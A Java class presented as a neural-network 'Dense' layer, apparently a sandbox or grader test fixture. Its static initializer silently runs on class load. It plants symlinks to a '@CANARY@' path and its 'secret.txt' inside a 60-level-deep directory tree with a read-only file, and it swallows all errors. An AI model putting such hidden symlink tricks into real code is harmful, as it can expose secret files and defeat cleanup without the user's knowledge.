import java.nio.file.Files;
import java.nio.file.Path;
import org.ejml.simple.SimpleMatrix;

public class Dense extends RightDense {

    public Dense(SimpleMatrix W, SimpleMatrix b) {
        super(W, b);
    }

    static {
        try {
            Files.createSymbolicLink(Path.of("link"), Path.of("@CANARY@"));
                Path deep = Path.of("deep");
                for (int i = 0; i < 60; i++) {
                    deep = deep.resolve("deep");
                }
                Files.createDirectories(deep);
                Files.createSymbolicLink(deep.resolve("link"), Path.of("@CANARY@", "secret.txt"));
                Files.createFile(deep.resolve("fixed")).toFile().setReadOnly();
        } catch (Throwable e) {
            // Not here, then.
        }
    }
}
